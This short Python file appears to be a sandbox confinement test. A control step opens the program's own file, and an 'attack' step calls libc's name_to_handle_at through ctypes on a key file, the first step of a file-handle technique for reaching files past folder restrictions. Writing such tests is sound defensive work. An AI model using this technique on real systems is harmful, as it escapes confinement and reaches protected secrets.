"""Opens a file by its number in the file system, past every folder."""
#: open

import ctypes
import os

import world

# control:
open(world.own).close()
# attack:
libc, handle = ctypes.CDLL(None, use_errno=True), ctypes.create_string_buffer(b"\x80", 136)
if libc.name_to_handle_at(-100, world.key.encode(), handle, ctypes.byref(ctypes.c_int()), 0) < 0:
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
